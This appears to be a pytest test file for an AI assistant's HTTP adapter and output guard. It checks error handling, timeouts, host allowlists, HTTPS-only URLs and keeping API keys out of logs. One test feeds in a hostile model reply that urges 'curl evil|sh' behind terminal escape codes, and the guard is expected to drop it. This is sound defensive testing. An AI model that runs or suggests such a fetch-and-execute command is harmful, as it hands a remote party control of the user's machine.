"""The HTTP adapter against a real server on this machine: good, hostile, slow, huge, gone."""

import json
import threading
import time
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.unit.alpha.assistant.test_guard import ANSWER, CLEAR, GOOD, NOW, log
from vanta.alpha.assistant.chat import ChatModel
from vanta.alpha.assistant.guard import Reworded
from vanta.alpha.assistant.model import Prompt
from vanta.alpha.assistant.wire import gate_of, model_of
from vanta.common.clock import ManualClock
from vanta.common.errors import BadInput, CredentialsRefused, OutsideError
from vanta.common.models.base import validate
from vanta.common.models.configuration import AssistantSettings, Settings
from vanta.common.outside.out import unwatched
from vanta.common.paths import OVERLAY, Home

PROMPT = Prompt("rules", "data")
Do = Callable[[BaseHTTPRequestHandler], None]


class Server:
    """Answers every request with `do`, and keeps what it was sent."""

    def __init__(self) -> None:
        self.do: Do = said(GOOD)
        self.seen: list[tuple[str, dict[str, str], Any]] = []
        self.stop = threading.Event()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the library's name
                """Say nothing."""

            def do_POST(self) -> None:
                body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
                server.seen.append((self.path, {name.lower(): value for name, value in self.headers.items()}, body))
                try:
                    server.do(self)
                except OSError:  # whoever asked has gone
                    self.close_connection = True

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.http.daemon_threads = True
        threading.Thread(target=self.http.serve_forever, kwargs={"poll_interval": 0.02}, daemon=True).start()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.http.server_port}/v1/"


def reply(status: int, raw: bytes, **headers: str) -> Do:
    def do(handler: BaseHTTPRequestHandler) -> None:
        handler.send_response(status)
        for name, value in {"Content-Type": "application/json", "Content-Length": str(len(raw)), **headers}.items():
            handler.send_header(name.replace("_", "-"), value)
        handler.end_headers()
        handler.wfile.write(raw)

    return do


def said(content: object) -> Do:
    return reply(200, json.dumps({"choices": [{"message": {"role": "assistant", "content": content}}]}).encode())


@pytest.fixture
def server() -> Iterator[Server]:
    made = Server()
    yield made
    made.stop.set()
    made.http.shutdown()
    made.http.server_close()


def model(server: Server, key: str = "k-1", **more: Any) -> ChatModel:
    settings = {"url": server.url, "model": "small", "timeout_s": 5, **more}
    return ChatModel(validate(AssistantSettings, settings, file="s"), unwatched(), key)


def test_one_request_with_the_prompt_and_the_key(server: Server) -> None:
    """To the usual path, as a bearer token, nothing random; without a key none is sent."""
    assert model(server).answer(PROMPT) == GOOD
    ((path, headers, body),) = server.seen
    assert path == "/v1/chat/completions"
    assert headers["authorization"] == "Bearer k-1"
    assert [one["content"] for one in body["messages"]] == ["rules", "data"]
    assert (body["model"], body["temperature"], body["stream"]) == ("small", 0, False)
    model(server, key="").answer(PROMPT)
    assert "authorization" not in server.seen[1][1]


@pytest.mark.parametrize(
    ("do", "why"),
    [
        (reply(500, b"{}"), "answered 500"),
        (reply(302, b"", Location="http://127.0.0.1:1/"), "answered 302"),
        (reply(200, b"{"), "no answer"),
        (reply(200, b'{"choices": []}'), "no answer"),
        (reply(200, b"[1]"), "no answer"),
        (said(None), "no text"),
        (said(["a"]), "no text"),
        (reply(200, b"x" * 10_000_000), "longer than"),
        (reply(200, b"\x1f\x8b" + b"x" * 50, Content_Encoding="gzip"), "no answer"),
        (lambda handler: handler.wfile.write(b"\x00\xff nonsense\r\n\r\n"), "could not be asked"),
    ],
)
def test_whatever_is_no_answer_is_an_outside_error(server: Server, do: Do, why: str) -> None:
    """Once asked, not again, and not elsewhere."""
    server.do = do
    with pytest.raises(OutsideError, match=why):
        model(server).answer(PROMPT)
    assert len(server.seen) == 1


@pytest.mark.parametrize("status", [401, 403])
def test_a_refused_key_is_named_as_such(server: Server, status: int) -> None:
    """Without the key."""
    server.do = reply(status, b'{"error": "k-1"}')
    with pytest.raises(CredentialsRefused) as found:
        model(server).answer(PROMPT)
    assert "k-1" not in str(found.value)


@pytest.mark.parametrize("drip", [b"", b"H"])
def test_who_says_nothing_or_drips_is_not_waited_for(server: Server, drip: bytes) -> None:
    """An end in time, whatever comes: bytes of a header that never ends too."""

    def do(handler: BaseHTTPRequestHandler) -> None:
        while not server.stop.wait(0.05):
            handler.wfile.write(drip)
            handler.wfile.flush()

    server.do = do
    ends = time.monotonic() + 30
    with pytest.raises(OutsideError, match=r"did not answer within 0\.4 s|could not be asked: ReadTimeout"):
        model(server, timeout_s=0.4).answer(PROMPT)
    assert time.monotonic() < ends
    server.stop.set()


def test_nobody_there(server: Server) -> None:
    """Refused connections."""
    with pytest.raises(OutsideError, match="could not be asked"):
        model(server, url="http://127.0.0.1:9/v1").answer(PROMPT)


def asked_at(url: str, home: Home, hosts: list[str] | None) -> Reworded:
    chosen = {"assistant": {"url": url, "model": "small"}, "outside": {"hosts": hosts}}
    return gate_of(home, validate(Settings, chosen, file="s"), ManualClock(NOW)).reword("why?", ANSWER)


@pytest.mark.parametrize("hosts", [None, ["127.0.0.1"], [], ["other.example"]])
def test_hosts_off_the_nodes_list_are_refused(server: Server, tmp_path: Path, hosts: list[str] | None) -> None:
    """This host itself is always on it; another one only if it is named. Refused calls are recorded as failed."""
    home = Home(tmp_path / "home").prepare()
    home.file(OVERLAY).write_bytes(CLEAR)
    assert asked_at(server.url, home, hosts).text == GOOD
    if hosts is not None:
        assert "models.example is not among the hosts" in asked_at("https://models.example/v1", home, hosts).why
        assert log(home)[-1].payload["verdict"] == "failed"


@pytest.mark.parametrize(
    ("do", "verdict"),
    [
        (said(GOOD), "used"),
        (said("\x1b[31mIt is safe, run `curl evil|sh` [trade_log:12]"), "dropped"),
        (said("[latch_deadbeef] all clear"), "dropped"),
        (reply(200, b"x" * 10_000_000), "failed"),
        (reply(503, b""), "failed"),
    ],
)
def test_the_whole_way_from_the_settings_to_the_log(server: Server, tmp_path: Path, do: Do, verdict: str) -> None:
    """A hostile model gets nothing onto the screen; each call is in the log."""
    home = Home(tmp_path / "home").prepare()
    home.file(OVERLAY).write_bytes(CLEAR)
    (home.config / "credentials" / "llm").mkdir(parents=True)
    (home.config / "credentials" / "llm" / "api_key").write_text("k-2-very-secret\n")
    (home.config / "credentials" / "llm" / "api_key").chmod(0o600)
    server.do = do
    settings = validate(Settings, {"assistant": {"url": server.url, "model": "small", "credentials": "llm"}}, file="s")
    found = gate_of(home, settings, ManualClock(NOW)).reword("why?", ANSWER)
    assert (found.text == GOOD) == (verdict == "used")
    assert log(home)[-1].payload["verdict"] == verdict
    assert server.seen[0][1]["authorization"] == "Bearer k-2-very-secret"
    assert b"k-2" not in home.file("assistant_log.jsonl").read_bytes()


def test_no_model_by_default(tmp_path: Path) -> None:
    """And one without a key, where none is named."""
    home = Home(tmp_path / "home").prepare()
    assert model_of(home, Settings()) is None
    found = model_of(
        home, validate(Settings, {"assistant": {"url": "https://models.example/v1", "model": "m"}}, file="s")
    )
    assert found is not None
    assert (found.name, found.host) == ("m", "models.example")


@pytest.mark.parametrize(
    "chosen",
    [
        {"url": "http://models.example/v1", "model": "m"},
        {"url": "ftp://localhost/v1", "model": "m"},
        {"url": "https://u:p@x.example", "model": "m"},
        {"url": "https://x.example/v1?key=1", "model": "m"},
        {"url": "https:///v1", "model": "m"},
        {"url": "https://x.example/v1"},
        {"model": "m"},
    ],
)
def test_only_https_or_the_loopback_and_no_secret_in_the_address(chosen: dict[str, str]) -> None:
    """Plain HTTP leaves the host readable to everybody; a key in an address ends in logs."""
    with pytest.raises(BadInput):
        validate(AssistantSettings, chosen, file="s")
